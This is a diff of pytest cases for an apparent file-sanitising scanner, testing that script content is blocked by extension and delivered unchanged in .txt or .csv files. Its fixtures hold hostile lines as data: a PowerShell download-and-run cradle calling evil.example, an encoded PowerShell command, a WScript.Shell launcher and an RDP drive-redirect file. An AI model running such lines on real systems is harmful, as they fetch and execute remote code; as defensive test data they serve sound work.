@@ -204,8 +204,9 @@ def test_mismatched_name_is_corrected_on_delivery(tmp_path: Path) -> None:
 @pytest.mark.parametrize(("name", "data"), [
     ("evil.vbs", b"plain words\n"),
     ("run.bat", b"@echo off\r\n"),
-    ("memo.txt", b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n'),
+    ("memo", b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n'),
     ("notes", b"powershell -EncodedCommand SQBFAFgA\n"),
+    ("invoice.pdf", b"IEX(New-Object Net.WebClient).DownloadString('http://evil.example/')\n"),
     # text files the Windows shell acts on by their extension
     ("会議.rdp", b"full address:s:rdp.evil.example\r\nredirectdrives:i:1\r\n"),
     ("console.msc", b'<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0"/>'),
@@ -224,6 +225,22 @@ def test_scripts_are_blocked_by_content_and_extension(tmp_path: Path, name: str,
     assert report.verdict is Verdict.BLOCKED
     assert report.input.type == "executable.script"
     assert not out.exists()
+
+
+@pytest.mark.parametrize(("name", "data"), [
+    ("ioc.txt", b"Emotet (JPCERT/CC): IEX(New-Object Net.WebClient).DownloadString('http://"
+                b"evil.example/')\r\npowershell -EncodedCommand SQBFAFgA\r\n"),
+    ("memo.txt", b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n'),
+    ("cells.csv", b"name,note\r\nx,IEX(hello)\r\n"),
+])
+def test_script_words_in_a_file_named_as_text_are_text(tmp_path: Path, name: str,
+                                                       data: bytes) -> None:
+    """A file named .txt or .csv opens in an editor or a spreadsheet, which run nothing:
+    an advisory's list of indicators is delivered as it is (blocked as a script before)."""
+    report, out = run(tmp_path, data, name=name)
+    assert report.verdict is Verdict.CLEAN
+    assert report.input.type.startswith("text.")
+    assert out.read_bytes() == data
 
 
 def test_container_verify_does_not_rescan_verified_members(tmp_path: Path) -> None:
